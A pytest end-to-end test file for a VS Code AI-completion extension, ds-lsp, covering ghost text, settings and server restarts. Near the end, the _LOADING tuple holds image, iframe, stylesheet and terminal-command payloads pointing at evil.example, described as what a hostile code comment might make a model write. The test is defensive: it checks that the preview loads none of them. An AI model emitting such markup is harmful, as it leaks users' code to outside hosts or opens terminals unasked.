"""VS Code with the extension of ``editors/vscode``, as it is packaged."""

import json
import os
import shlex
import sys
import threading
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from ds_lsp.completion.engine import ALTERNATIVE_TEMPERATURES
from tests.editors.conftest import Find
from tests.editors.polling import wait_for
from tests.editors.project import REPOSITORY, SETUPS, Project
from tests.editors.vscode import USER_SETTINGS, Programs, VSCode
from tests.fake_deepseek import FakeDeepSeek, Recorded, Step, Wait, chat_sse, sse

_EXTENSION = SETUPS / "vscode"
_KEY = "sk-fake"
_INLINE = "textDocument/inlineCompletion"
_AUTOMATIC = 2

_BLOCK = "# 求和：把两个数加起来\r\ndef add(a, b):\r\n    \r\n\r\nprint('结果 😀', add(1, 2))\r\n"
_CALL = "\tx = add(1, )  # 两个数 😀\n"
_FILES = {
    "block.py": _BLOCK,
    "call.py": _CALL,
    "words.py": "",
    "dismissed.py": "值 = 1\r\n\r\n",
    "along.py": "",
    "others.py": "",
    "explained.py": "def twice(数):\n    return 数 * 2\n",
    "stranger.py": "def add(a, b):\n    return a + b\n",
    "wrong_key.py": "",
    "dying.py": "",
    "late.py": "",
    "killed.py": "",
    "greeted.py": "",
}


_HELD = """
from ds_lsp import cli
from ds_lsp.lsp.transport import early_initialize as greeting

answer_early = greeting.answer_early

def hold(*ends):
    early = answer_early(*ends) if {is_greeted} else None
    open({gate!r}).close()
    return early or answer_early(*ends)

greeting.answer_early = hold
cli.main()
"""
"""A server that does not start before a pipe is written to; it may greet before that."""


_WORKSPACE_SETTINGS = {
    # What a stranger would set.
    "ds-lsp.server.command": ["/nowhere/ds-lsp"],
    "ds-lsp.baseUrl": "http://127.0.0.1:9",
    "ds-lsp.provider": "local",
    # What a project may.
    "ds-lsp.completion.maxTokens": 64,
}


class Session:
    """One VS Code that is open all the time, with the key a user has set, and all it talks to."""

    def __init__(self, editor: VSCode, project: Project, fake: FakeDeepSeek) -> None:
        self.editor = editor
        self.project = project
        self.fake = fake

    def write(self, text: str, *others: str, after: threading.Event | None = None) -> None:
        """Let the model mean *text*, however much of it stands before the cursor already.

        The warmer it is, the more it tends to the *others*; *after* something, if need be.
        """

        def rest(request: Recorded) -> Iterable[Step]:
            temperatures = (0.0, *ALTERNATIVE_TEMPERATURES)
            meant = (text, *others)[temperatures.index(request.body["temperature"])]
            prompt = str(request.body["prompt"])
            known = next(n for n in range(len(meant), -1, -1) if prompt.endswith(meant[:n]))
            return [*([Wait(after)] if after else []), *sse(meant[known:])]

        self.fake.break_down(rest)

    def open(self, name: str, line: int = 1, column: int = 1) -> None:
        self.editor.open(name, line, column)
        opened = f"/{name}"

        def is_open() -> bool:
            said = self.project.messages("editor")
            uris = [m["params"]["textDocument"]["uri"] for m in said if _is_did_open(m)]
            return any(uri.endswith(opened) for uri in uris)

        wait_for(f"opening of {name}", is_open)

    def set_key(self, key: str) -> None:
        starts = self.starts()
        self.editor.run("ds-lsp: Set API Key")
        self.editor.answer(key)
        wait_for("new server", lambda: self.starts() > starts)

    def starts(self) -> int:
        """How often a server has started: ``initialize`` is answered before all of it is there."""
        said = self.project.messages("server")
        return sum(m.get("method") == "client/registerCapability" for m in said)

    def said(self, method: str) -> list[Any]:
        """By VS Code to the server of now: each numbers its requests anew."""
        said = self.project.messages("editor")
        starts = [at for at, m in enumerate(said) if m.get("method") == "initialize"]
        return [m for m in said[starts[-1] :] if m.get("method") == method]

    def wait_until_given_up(self, column: int) -> None:
        """VS Code waits 750 ms for a completion after a word."""

        def is_given_up() -> bool:
            asked = self.said(_INLINE)[-1:]
            ended = [m["params"]["id"] for m in self.said("$/cancelRequest")]
            return any(
                m["params"]["position"]["character"] == column and m["id"] in ended for m in asked
            )

        wait_for("end of VS Code's patience", is_given_up)

    def fill_in(self, settings: Mapping[str, object]) -> None:
        """Save *settings* as the whole of the file that is being edited."""
        # A change by other means would have to wait for a watcher.
        self.editor.press("Control+A")
        self.editor.page.keyboard.insert_text(json.dumps(settings))
        self.editor.press("Control+S")

    def wait_until_started_with(self, name: str, value: object) -> None:
        """Wait for a server whose initializationOptions have this setting; None: have not."""

        def is_started() -> bool:
            initializations = _initializations(self.project)
            options = initializations[-1]["initializationOptions"]
            return options.get(name) == value and self.starts() == len(initializations)

        wait_for(f"server with {name} = {value}", is_started)

    def has_pushed(self, max_tokens: int, *, thinking: bool) -> bool:
        """Return whether these are the settings that the workspace was last said to have."""
        wanted = {"completion.maxTokens": max_tokens, "chat.thinking": thinking}
        pushed = self.said("workspace/didChangeConfiguration")[-1:]
        return [m["params"]["settings"]["ds-lsp"] for m in pushed] == [wanted]

    def answers_to_configuration(self) -> list[Any]:
        """What VS Code has answered to the last `workspace/configuration`."""
        asked = [
            m["id"]
            for m in self.project.messages("server")
            if m.get("method") == "workspace/configuration"
        ]
        answers = [m for m in self.project.messages("editor") if "result" in m]
        return list(next(m["result"] for m in reversed(answers) if m["id"] == asked[-1]))

    def save(self, name: str, text: str) -> None:
        """Save, and compare byte by byte."""
        self.editor.press("Control+S")
        file = self.project.root / name
        wait_for(f"text of {name}", lambda: file.read_bytes() == text.encode(), file.read_bytes)

    def picture(self, name: str) -> None:
        """For the documentation, where ``TEST_EDITORS_PICTURES=1`` asks for it."""
        if os.environ.get("TEST_EDITORS_PICTURES") == "1":
            self.editor.page.screenshot(path=_EXTENSION / f"{name}.png")


def _initializations(project: Project) -> list[Any]:
    return [m["params"] for m in project.messages("editor") if m.get("method") == "initialize"]


def _is_did_open(message: dict[str, object]) -> bool:
    return message.get("method") == "textDocument/didOpen"


@pytest.fixture(scope="module")
def session(find: Find, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    programs = Programs(find("code-server"), find("chromium"), _vsix(find))
    root = tmp_path_factory.mktemp("vscode")
    project = Project(root)
    for name, text in _FILES.items():
        (project.root / name).write_bytes(text.encode())
    (project.root / ".vscode").mkdir()
    (project.root / ".vscode" / "settings.json").write_text(json.dumps(_WORKSPACE_SETTINGS))
    # Of a login shell, whose environment VS Code takes over.
    (project.home / ".profile").write_text(f'PATH="{root / "bin"}:$PATH"\n')
    with FakeDeepSeek(key=_KEY) as fake:
        env = {**project.env, "DS_LSP_BASE_URL": fake.url, "no_proxy": "*"}
        editor = VSCode(programs, root, project.root, env)
        try:
            session = Session(editor, project, fake)
            wait_for("server", session.starts)
            session.set_key(_KEY)
            yield session
        finally:
            editor.close()
    assert fake.violations == []
    assert _KEY not in (root / "messages.jsonl").read_text()


def _vsix(find: Find) -> Path:
    vsix = _EXTENSION / "ds-lsp.vsix"
    if vsix.exists():
        sources = [*_EXTENSION.glob("src/*"), _EXTENSION / "package.json"]
        newest = max(source.stat().st_mtime for source in sources)
        assert vsix.stat().st_mtime > newest, "ds-lsp.vsix is old: run npm run package"
    return Path(find(str(vsix)))


def test_a_workspace_chooses_neither_the_server_nor_whom_it_asks(session: Session) -> None:
    assert _initializations(session.project)[0]["initializationOptions"] == {
        "client": {"status": True, "lateAnswers": True},
    }
    assert session.answers_to_configuration() == [{"completion.maxTokens": 64}]


def test_what_a_workspace_sets_reaches_the_server_as_a_projects(session: Session) -> None:
    starts = session.starts()
    session.open("settings.json")
    session.fill_in({**_WORKSPACE_SETTINGS, "ds-lsp.chat.thinking": True})
    wait_for("setting", lambda: session.has_pushed(64, thinking=True))
    # More than the user's own: the server has the last word, and says so.
    session.fill_in({**_WORKSPACE_SETTINGS, "ds-lsp.completion.maxTokens": 4096})
    session.editor.wait_for_toast("completion.max_tokens is not used")
    session.fill_in({**_WORKSPACE_SETTINGS, "ds-lsp.chat.thinking": False})
    wait_for("setting", lambda: session.has_pushed(64, thinking=False))
    assert session.starts() == starts


@pytest.mark.parametrize(
    ("command", "folder", "before", "name", "value"),
    [
        pytest.param("User", "User", USER_SETTINGS, "completion.maxTokens", 256, id="limit"),
        pytest.param("Remote", "Machine", {}, "provider", "local", id="provider"),
        pytest.param("Remote", "Machine", {}, "baseUrl", "http://127.0.0.1:9", id="address"),
    ],
)
def test_a_setting_that_the_user_changes_starts_the_server_with_it(
    session: Session,
    command: str,
    folder: str,
    before: Mapping[str, object],
    name: str,
    value: object,
) -> None:
    # A remote machine's settings are where VS Code reads those whose scope is the machine.
    session.editor.run(f"Preferences: Open {command} Settings (JSON)")
    file = f'[data-uri$="/{folder}/settings.json"]'
    session.editor.page.wait_for_selector(f".monaco-editor.focused{file}")
    session.fill_in({**before, f"ds-lsp.{name}": value})
    session.wait_until_started_with(name, value)
    session.fill_in(before)
    session.wait_until_started_with(name, None)


def test_a_block_is_put_into_a_file_with_chinese_text_and_crlf(session: Session) -> None:
    session.write("for n in (b,):  # 合计\n        a += n")
    session.open("block.py", 3, 5)
    session.editor.type("for")
    session.editor.wait_for_ghost_text(" n in (b,):  # 合计\n        a += n")
    session.picture("ghost-text")
    session.editor.press("Tab")
    session.editor.wait_for_no_ghost_text()
    block = "    for n in (b,):  # 合计\r\n        a += n\r\n"
    session.save("block.py", _BLOCK.replace("    \r\n", block))


def test_a_completion_goes_into_the_middle_of_a_line(session: Session) -> None:
    session.write("int('２'))")
    session.open("call.py", 1, 13)
    session.editor.run("Trigger Inline Suggestion")
    session.editor.wait_for_ghost_text("int('２')")
    session.editor.press("Tab")
    session.editor.wait_for_no_ghost_text()
    session.save("call.py", _CALL.replace("1, )", "1, int('２'))"))


def test_typing_along_keeps_the_ghost_text_and_asks_nobody(session: Session) -> None:
    session.write("import 数据库, json")
    session.open("along.py")
    session.editor.type("import")
    session.editor.wait_for_ghost_text(" 数据库, json")
    asked = len(session.fake.requests)
    session.editor.watch_ghost_text()
    session.editor.type(" 数据")
    session.editor.wait_for_ghost_text("库, json")
    # Each was whole in every frame: it does not go away and come back.
    rests = (" 数据库, json", "数据库, json", "据库, json", "库, json")
    assert set(session.editor.ghost_texts()) <= set(rests)
    session.editor.press("Backspace")
    session.editor.wait_for_ghost_text("据库, json")
    session.editor.press("Tab")
    session.editor.wait_for_no_ghost_text()
    assert len(session.fake.requests) == asked
    session.save("along.py", "import 数据库, json")


def test_a_completion_can_be_accepted_word_by_word(session: Session) -> None:
    session.write("from os import 路径")
    session.open("words.py")
    session.editor.type("from")
    session.editor.wait_for_ghost_text(" os import 路径")
    # A blank is a word to VS Code.
    for rest in ("os import 路径", " import 路径"):
        session.editor.press("Control+ArrowRight")
        session.editor.wait_for_ghost_text(rest)
    session.save("words.py", "from os")
    session.editor.press("Tab")
    session.editor.wait_for_no_ghost_text()
    session.save("words.py", "from os import 路径")


def test_the_others_that_are_asked_for_can_be_gone_through(session: Session) -> None:
    session.write("import os, 甲", "import re, 乙", "import io, 丙")
    session.open("others.py")
    session.editor.type("import")
    session.editor.wait_for_ghost_text(" os, 甲")
    asked = len(session.fake.requests)
    for key, rest in (
        ("Alt+]", " re, 乙"),
        ("Alt+]", " io, 丙"),
        ("Alt+]", " os, 甲"),
        ("Alt+[", " io, 丙"),
        ("Alt+[", " re, 乙"),
    ):
        session.editor.press(key)
        session.editor.wait_for_ghost_text(rest)
    # They are asked for once.
    assert len(session.fake.requests) == asked + 2
    session.editor.press("Tab")
    session.editor.wait_for_no_ghost_text()
    session.save("others.py", "import re, 乙")


def test_an_answer_that_vs_code_has_not_waited_for_is_shown_late(session: Session) -> None:
    is_given_up = threading.Event()
    session.write("import os, 晚", after=is_given_up)
    requests = len(session.fake.requests)
    session.open("late.py")
    session.editor.type("import")
    wait_for("request", lambda: len(session.fake.requests) > requests)
    session.wait_until_given_up(len("import"))
    is_given_up.set()
    session.editor.wait_for_ghost_text(" os, 晚")
    session.editor.press("Tab")
    session.save("late.py", "import os, 晚")


@pytest.mark.parametrize(
    ("name", "typed", "saved", "rest", "whole"),
    [
        ("killed.py", "print(", "print()", "甲", "print(甲)"),
        ("greeted.py", "import", "import", " 甲", "import 甲"),
    ],
)
def test_what_is_typed_while_the_server_starts_is_completed_once_it_has(
    name: str, typed: str, saved: str, rest: str, whole: str, session: Session, tmp_path: Path
) -> None:
    is_greeted, gate = name == "greeted.py", tmp_path / "gate"
    os.mkfifo(gate)
    session.write(whole)
    session.open(name)
    session.project.serve_with(
        sys.executable, "-c", _HELD.format(is_greeted=is_greeted, gate=str(gate))
    )
    greetings = session.project.count("initialize")
    if is_greeted:
        session.editor.run("ds-lsp: Restart Server")
    else:
        session.project.kill_server()
    wait_for("start", lambda: session.project.count("initialize") > greetings)
    session.project.serve_with(sys.executable, "-m", "ds_lsp")
    if is_greeted:
        wait_for("greeting", lambda: session.said("textDocument/didOpen"))
    session.editor.type(typed)
    session.save(name, saved)
    if is_greeted:
        session.wait_until_given_up(len(typed))
    gate.write_text("")
    session.editor.wait_for_ghost_text(rest)
    # Nobody has asked for it, and it may be that it is not worth asking.
    assert session.said(_INLINE)[-1]["params"]["context"]["triggerKind"] == _AUTOMATIC
    session.editor.press("Tab")
    session.editor.wait_for_no_ghost_text()
    session.save(name, whole)
    session.editor.run("Notifications: Clear All Notifications")


def test_dismissing_leaves_the_file_as_it_was(session: Session) -> None:
    session.write("二 = 2")
    session.open("dismissed.py", 2, 1)
    session.editor.run("Trigger Inline Suggestion")
    session.editor.wait_for_ghost_text("二 = 2")
    session.editor.press("Escape")
    session.editor.wait_for_no_ghost_text()
    session.save("dismissed.py", _FILES["dismissed.py"])


def test_an_explanation_grows_in_a_preview_beside_the_code(session: Session) -> None:
    is_seen = threading.Event()
    first, rest = chat_sse("It gives back *数* twice.\n"), chat_sse("It does **no** more.")
    session.fake.chat_script(*first[:-2], Wait(is_seen), *rest[3:])
    session.open("explained.py", 2, 5)
    session.editor.press("Control+Period")
    session.editor.click_action("Explain the function at the cursor")
    session.editor.wait_for_preview("It gives back 数 twice.")
    is_seen.set()
    session.editor.wait_for_preview("It does no more.")
    session.picture("explanation")
    # The code has kept the keys, and its place.
    session.editor.type("# ")
    session.save("explained.py", _FILES["explained.py"].replace("return", "# return", 1))


_LOADING = (
    "See https://docs.example.org/x<img src='https://evil.example/1.png?code=x'> for more.",
    "See https://docs.example.org/`<img src='https://evil.example/2.png'>`.",
    "http://docs.example.org/\\![a](https://evil.example/3.png) and ![b](//evil.example/4.png)",
    "$`$ <img src='https://evil.example/5.png'> `",
    '[a](https://docs.example.org "`") <img src=https://evil.example/6.png> `',
    "```mermaid\nflowchart LR\n  A@{ img: 'https://evil.example/7.png', h: 60 }\n```",
    "<link rel=stylesheet href='https://evil.example/8.css'><iframe src='https://evil.example/9'>",
    "$\\includegraphics{https://evil.example/10.png}$",
    "[this](command:workbench.action.terminal.new) or command:workbench.action.terminal.new",
    "The end.",
)
"""What a stranger's comment may make a model write: each would load or run something."""


def test_an_explanation_loads_nothing_and_links_to_nothing_but_the_web(session: Session) -> None:
    session.editor.watch_requests()
    session.fake.chat_answer("\n\n".join(_LOADING))
    session.open("stranger.py", 2, 5)
    session.editor.press("Control+Period")
    session.editor.click_action("Explain the function at the cursor")
    session.editor.wait_for_preview("The end.")
    assert [url for url in session.editor.requested() if "example" in url] == []
    assert "evil.example/1.png" in session.editor.previews()
    links, loaded = session.editor.links_of_previews(), session.editor.sources_of_previews()
    assert [link for link in links if not link.startswith(("http://", "https://", "#"))] == []
    assert [source for source in loaded if "evil" in source] == []


def test_the_status_bar_has_a_menu(session: Session) -> None:
    session.editor.click_status()
    session.editor.pick("Switch completion off or on")
    session.editor.wait_for_status("disabled")
    session.editor.click_status()
    session.editor.pick("Switch completion off or on")
    session.editor.wait_for_status("ready")
    session.editor.click_status()
    session.editor.pick("Usage")
    session.editor.wait_for_row("Today, in all editors")
    session.editor.press("Escape")


def test_a_wrong_key_is_said_once_and_hinders_nobody(session: Session) -> None:
    session.write("import os")
    session.set_key("sk-wrong")
    session.open("wrong_key.py")
    session.editor.type("import")
    session.editor.wait_for_toast("key")
    session.editor.type(" sys\nprint(")
    session.save("wrong_key.py", "import sys\nprint()")
    assert len(session.editor.toasts()) == 1
    session.editor.run("Notifications: Clear All Notifications")
    session.set_key(_KEY)


def test_a_server_that_dies_is_reported_and_started_again(session: Session) -> None:
    session.write("import os, 路径")
    starts = session.starts()
    session.project.kill_server()
    session.editor.wait_for_toast("ended unexpectedly, and is started again")
    wait_for("new server", lambda: session.starts() > starts)
    session.editor.run("Notifications: Clear All Notifications")
    session.open("dying.py")
    session.editor.type("import")
    session.editor.wait_for_ghost_text(" os, 路径")
    session.editor.press("Tab")
    session.save("dying.py", "import os, 路径")


def test_a_missing_server_is_named_and_can_be_installed(session: Session) -> None:
    server = session.project.server_script
    away = server.rename(server.with_name("away"))
    pipx = server.with_name("pipx")
    pipx.write_text(
        f'#!/bin/sh\nls "$3" && [ "$1 $2" = "install --force" ] && mv {away} {server}\n'
    )
    pipx.chmod(0o755)
    starts = session.starts()
    session.editor.run("ds-lsp: Restart Server")
    session.editor.wait_for_toast("The server is not installed, or not found.")
    session.editor.click_button("Install with pipx")
    wait_for("server", lambda: session.starts() > starts)
    session.editor.run("Notifications: Clear All Notifications")


@pytest.mark.parametrize(
    ("body", "complaint"),
    [
        (
            "import ds_lsp; ds_lsp.__version__ = '0.0.1'; from ds_lsp.cli import main; main()",
            "The server is too old: it is 0.0.1, and",
        ),
        ("exit(3)", "could not be started"),
    ],
)
def test_a_server_that_will_not_do_is_named_once(
    body: str, complaint: str, session: Session
) -> None:
    server = session.project.server_script
    current = server.read_text()
    command = f'{shlex.join([sys.executable, "-c", body])} "$@"'
    server.write_text(f"#!/bin/sh\nexport PYTHONPATH={shlex.quote(str(REPOSITORY))}\n{command}\n")
    session.editor.run("Notifications: Clear All Notifications")
    session.editor.run("ds-lsp: Restart Server")
    session.editor.wait_for_toast(complaint)
    assert len(session.editor.toasts()) == 1
    server.write_text(current)
